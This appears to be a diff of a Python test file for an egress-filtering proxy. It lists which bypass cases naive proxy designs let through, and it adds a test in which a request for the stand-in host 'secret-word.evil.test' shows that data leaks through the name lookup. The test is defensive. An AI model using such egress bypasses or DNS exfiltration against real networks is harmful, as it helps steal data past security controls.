@@ -5,9 +5,9 @@ from collections.abc import Iterator
 
 import pytest
 
+from egress_profiles.battery.cases import CASES, OK, REGISTRY, Needs
 from egress_profiles.decision import Decision, read_decisions
 from tests.egress_profiles.addon.attempt import attempt, channel, exchange, good
-from tests.egress_profiles.addon.hostile import CASES, OK, REGISTRY
 from tests.egress_profiles.addon.proxies import (
     ADDON,
     BROKEN_JUDGE,
@@ -38,8 +38,9 @@ def controls(place: Place, proxy: Running, moment: str) -> None:
 
 def reached(place: Place, proxy: Running, prefix: str) -> set[str]:
     """Try every case, and give the ids of those whose mark arrived."""
-    marks = {case.id: f"{prefix}-mark-{number:03d}" for number, case in enumerate(CASES)}
-    for case in CASES:
+    asked = [case for case in CASES if case.needs is not Needs.CREDENTIALS]
+    marks = {case.id: f"{prefix}-mark-{number:03d}" for number, case in enumerate(asked)}
+    for case in asked:
         attempt(case, proxy.ports, marks[case.id])
     return {case for case, mark in marks.items() if place.server.arrivals.saw(mark)}
 
@@ -130,6 +131,9 @@ NAIVE = {
     "pretty_host": {"E11", "E12", "E14", "E07-raw"},
     "host": {"E09", "E10", "E12", "E13", "E14-host", "E07-raw"},
     "raising": {"E01", "E10", "E11", "E14", "E18"},
+    "suffix": {"E09", "E10", "E17-evil{ok}", "E17-x.{ok}", "E07-raw"},
+    "ip-pinned": {"E01", "E11", "E17-{ok}.{evil}", "E18", "E05-127.0.0.1"},
+    "dns-open": {"E09", "E10", "E12", "E13", "E07-raw"},
 }
 
 
@@ -140,6 +144,14 @@ def test_a_naive_proxy_lets_its_named_cases_through(place: Place, name: str) -> 
         assert "answered" in good(proxy.ports, OK, f"control-{name}")
         through = reached(place, proxy, name)
     assert NAIVE[name] <= through, f"{name} let through {sorted(through)}"
+
+
+@pytest.mark.parametrize("name", ["ip-pinned", "dns-open"])
+def test_a_proxy_that_looks_up_before_it_judges_tells_the_name(place: Place, name: str) -> None:
+    """E22: the unlisted name reaches the name server, whether it is refused afterwards or not."""
+    with running(place, f"lookup-{name}", free_ports(place), naive(place, name)) as proxy:
+        good(proxy.ports, "secret-word.evil.test", f"m-lookup-{name}")
+        assert "secret-word.evil.test" in proxy.asked
 
 
 @pytest.mark.parametrize("fault", ["missing", "corrupt", "raising"])
